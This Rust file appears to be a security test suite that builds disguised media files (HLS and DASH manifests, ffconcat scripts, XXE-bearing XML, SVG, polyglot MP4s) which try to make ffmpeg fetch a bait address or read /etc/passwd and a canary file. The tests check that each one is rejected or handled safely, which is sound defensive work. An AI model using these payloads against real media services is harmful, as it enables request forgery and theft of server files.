//! Files that name others: who follows them reads its own secrets for a stranger, or knocks at
//! doors that only it can reach.

use std::path::Path;

use super::{
    Attack, End, MALFORMED, NO_VIDEO, NOT_A_VIDEO,
    boxes::{boxed, edited},
    clip,
};
use crate::media::Clips;

/// A file that nobody has a reason to open.
pub const CANARY: &str = "canary-3f1c.mp4";

/// What the files name.
#[derive(Debug, Clone, Copy)]
pub struct References<'a> {
    /// An address that nobody has a reason to connect to.
    pub bait: &'a str,
    /// The canary's path.
    pub canary: &'a Path,
}

impl References<'_> {
    /// A playlist, which ffmpeg follows when it is let.
    pub fn playlist(&self) -> String {
        format!(
            "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:9\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:9,\n{}/segment.ts\n#EXT-X-ENDLIST\n",
            self.bait
        )
    }

    /// A list of files to join, the same.
    pub fn script(&self) -> String {
        format!(
            "ffconcat version 1.0\nfile 'file:{}'\n",
            self.canary.display()
        )
    }

    fn texts(&self) -> Vec<(&'static str, &'static str, String)> {
        let Self { bait, canary } = self;
        let canary = canary.display();
        let playlist = self.playlist();
        vec![
            ("HLS named mp4", "playlist.mp4", playlist.clone()),
            ("HLS named webm", "playlist.webm", playlist.clone()),
            ("HLS named mov", "playlist.mov", playlist.clone()),
            ("HLS of files", "files.mp4", format!("#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nfile:///etc/passwd\n#EXTINF:9,\n{canary}\n#EXT-X-ENDLIST\n")),
            ("HLS of playlists", "nested.mp4", format!("#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=9\n{bait}/inner.m3u8\n")),
            ("HLS that reads lines of a file", "concat.avi", format!("#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:9,\nconcat:{bait}/head.m3u8|file:///etc/passwd\n#EXT-X-ENDLIST\n")),
            ("HLS with a key elsewhere", "key.ts", format!("#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXT-X-KEY:METHOD=AES-128,URI=\"{bait}/key\"\n#EXTINF:9,\n{canary}\n#EXT-X-ENDLIST\n")),
            ("HLS after a byte order mark", "bom.mkv", format!("\u{feff}{playlist}")),
            ("concat script", "script.mp4", self.script()),
            ("concat script with options", "options.mov", format!("ffconcat version 1.0\nfile '{bait}/x.mp4'\noption protocol_whitelist file,http,tcp\n")),
            ("DASH manifest", "manifest.mp4", format!("<?xml version=\"1.0\"?>\n<MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\" mediaPresentationDuration=\"PT9S\"><Period><AdaptationSet contentType=\"video\"><Representation id=\"1\" bandwidth=\"9\"><BaseURL>{bait}/video.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>")),
            ("DASH with an entity", "entity.mp4", format!("<?xml version=\"1.0\"?><!DOCTYPE MPD [<!ENTITY e SYSTEM \"file://{canary}\">]><MPD><Period>&e;</Period></MPD>")),
            ("SVG with a link", "drawing.mp4", format!("<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"64\" height=\"64\"><image width=\"64\" height=\"64\" xlink:href=\"{bait}/a.png\"/><image xlink:href=\"file://{canary}\"/></svg>")),
            ("SDP", "session.mp4", "v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=video 9 RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n".into()),
            ("XSPF", "list.mp4", format!("<?xml version=\"1.0\"?><playlist version=\"1\" xmlns=\"http://xspf.org/ns/0/\"><trackList><track><location>{bait}/a.mp4</location></track></trackList></playlist>")),
            ("ASX", "list.wmv", format!("<asx version=\"3.0\"><entry><ref href=\"{bait}/a.wmv\"/></entry></asx>")),
            ("WPL", "list.avi", format!("<?wpl version=\"1.0\"?><smil><body><seq><media src=\"file://{canary}\"/></seq></body></smil>")),
            ("SMIL", "list.mov", format!("<smil><body><video src=\"{bait}/a.mp4\"/></body></smil>")),
            ("ASF reference", "reference.wmv", format!("[Reference]\r\nRef1={bait}/a.asf?MSWMExt=.asf\r\n")),
            ("RTSP text", "rtsp.mov", format!("RTSPtext\nrtsp://{}\n", bait.trim_start_matches("http://"))),
            ("lavfi graph", "graph.mp4", format!("movie={canary}[out0]")),
            ("image pattern", "%03d.mp4", "frame%03d.png".into()),
            ("subtitles", "subtitles.mkv", "1\n00:00:00,000 --> 00:00:09,000\n{\\1img(file:///etc/passwd)}<font face=\"x\">text\n".into()),
            ("ASS subtitles", "styled.mkv", "[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: x.ttf\n[Events]\nDialogue: 0,0:00:00.00,0:00:09.00,Default,,0,0,0,,x\n".into()),
            ("web page", "page.webm", format!("<!DOCTYPE html><html><video src=\"{bait}/a.mp4\"></video><script>fetch('{bait}')</script></html>")),
            ("shell script", "run.mp4", format!("#!/bin/sh\ncurl {bait}\n")),
            ("ffmetadata", "meta.mp4", ";FFMETADATA1\ntitle=x\n".into()),
            ("ffmpeg options", "arguments.mp4", format!("-i {canary} -f mpegts {bait}/out")),
        ]
    }
}

/// Everything that names something else.
pub fn attacks(clips: &Clips, references: References<'_>) -> Vec<Attack> {
    let texts = references.texts().into_iter();
    let mut attacks: Vec<_> = texts
        .map(|(name, filename, text)| Attack::new(name, filename, text.into(), NOT_A_VIDEO))
        .collect();
    attacks.extend(documents());
    attacks.extend(in_containers(clips, references));
    attacks
}

/// What is plainly something else.
fn documents() -> Vec<Attack> {
    let binary = |name, filename, bytes: &[u8]| {
        let bytes = [bytes, &[0; 4000]].concat();
        Attack::new(name, filename, bytes, NOT_A_VIDEO)
    };
    vec![
        binary("PDF", "film.mp4", b"%PDF-1.7\n/Launch (sh)"),
        binary("ZIP", "film.mov", b"PK\x03\x04\x14\0\0\0\x08\0"),
        binary("program", "film.mkv", b"\x7FELF\x02\x01\x01\0"),
        binary("PNG", "film.webm", b"\x89PNG\r\n\x1A\n\0\0\0\rIHDR"),
        binary("GIF", "film.avi", b"GIF89a\x01\0\x01\0"),
        binary(
            "HEIF picture",
            "film.m4v",
            b"\0\0\0\x18ftypheic\0\0\0\0mif1heic",
        ),
    ]
}

/// Media whose container says that the media are elsewhere, or that are playlists as well.
fn in_containers(clips: &Clips, references: References<'_>) -> Vec<Attack> {
    let mp4 = clip(clips, "reference.mp4", "-c:v libx264 -pix_fmt yuv420p");
    let mov = clip(clips, "reference.mov", "-c:v libx264 -pix_fmt yuv420p");
    let canary = references.canary.to_str().unwrap();
    let external = |bytes: &[u8], kind: &str, place: &[u8]| {
        let path = ["moov", "trak", "mdia", "minf", "dinf", "dref"];
        edited(bytes, &path, &|_| {
            // No flag: the media are not in this file.
            let entry = boxed(kind, &[&[0; 4], place].concat());
            [&[0, 0, 0, 0, 0, 0, 0, 1], &entry[..]].concat()
        })
    };
    let url = |place: &str| external(&mp4, "url ", &[place.as_bytes(), &[0]].concat());
    let playlist = references.playlist();
    let bait = references.bait;
    let movie = |reference: Vec<u8>| {
        let description = boxed("rmda", &boxed("rdrf", &reference));
        [
            boxed("ftyp", b"qt  \0\0\0\0qt  "),
            boxed("moov", &boxed("rmra", &description)),
        ]
        .concat()
    };
    let place = format!("{bait}/a.mov\0");
    let length = u32::try_from(place.len()).unwrap().to_be_bytes();
    let reference = [&[0; 4], &b"url "[..], &length, place.as_bytes()].concat();
    // What is named is not followed: what is in the file itself is read instead.
    let harmless = |name: &str, filename, bytes| Attack::new(name, filename, bytes, End::Ready);
    vec![
        harmless(
            "MP4 with its media in /etc/passwd",
            "dref.mp4",
            url("file:///etc/passwd"),
        ),
        harmless(
            "MP4 with its media in another file",
            "dref.m4v",
            url(canary),
        ),
        harmless(
            "MP4 with its media elsewhere",
            "dref.3gp",
            url(&format!("{bait}/a.mp4")),
        ),
        Attack::new(
            "MOV with an alias",
            "alias.mov",
            external(&mov, "alis", &alias(canary)),
            MALFORMED,
        ),
        Attack::new(
            "MOV that refers to another",
            "reference.mov",
            movie(reference),
            NO_VIDEO,
        ),
        Attack::new(
            "MP4 box before a playlist",
            "polyglot.mp4",
            [
                boxed("ftyp", b"isom\0\0\0\0isom"),
                playlist.clone().into_bytes(),
            ]
            .concat(),
            MALFORMED,
        ),
        Attack::new(
            "playlist in a box",
            "boxed.mp4",
            [
                boxed("free", playlist.as_bytes()),
                boxed("mdat", playlist.as_bytes()),
            ]
            .concat(),
            MALFORMED,
        ),
        harmless(
            "web page after a video",
            "page.mp4",
            [&mp4[..], b"<script>alert(1)</script>"].concat(),
        ),
        Attack::new(
            "playlist before a video",
            "before.mp4",
            [playlist.as_bytes(), &mp4].concat(),
            NOT_A_VIDEO,
        ),
    ]
}

/// An alias record of the Macintosh, as `QuickTime` wrote it.
fn alias(path: &str) -> Vec<u8> {
    let mut record = vec![0; 150];
    // Its length, version 2.
    record[4..6].copy_from_slice(&150_u16.to_be_bytes());
    record[6..8].copy_from_slice(&2_u16.to_be_bytes());
    record[10] = 1;
    record[11] = b'/';
    record[50] = 4;
    record[51..55].copy_from_slice(b"file");
    // How many folders up, and how many down.
    record[130..134].copy_from_slice(&[0, 1, 0, 1]);
    let length = u16::try_from(path.len()).unwrap().to_be_bytes();
    let padding = &[0][..path.len() % 2];
    for kind in [2_u16, 18] {
        record.extend([&kind.to_be_bytes()[..], &length, path.as_bytes(), padding].concat());
    }
    record.extend([0xFF, 0xFF, 0, 0]);
    record
}
